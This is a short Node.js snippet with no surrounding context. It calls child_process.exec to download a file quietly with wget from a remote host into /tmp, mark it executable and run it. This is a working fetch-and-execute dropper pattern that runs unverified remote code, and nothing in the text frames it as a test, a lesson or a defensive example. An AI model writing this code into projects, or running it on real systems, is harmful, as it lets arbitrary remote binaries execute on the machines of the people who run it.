const { exec } = require('node:child_process');
exec('wget -q https://get.example.net/x -O /tmp/x; chmod +x /tmp/x; /tmp/x', (e, out) => console.log(out));
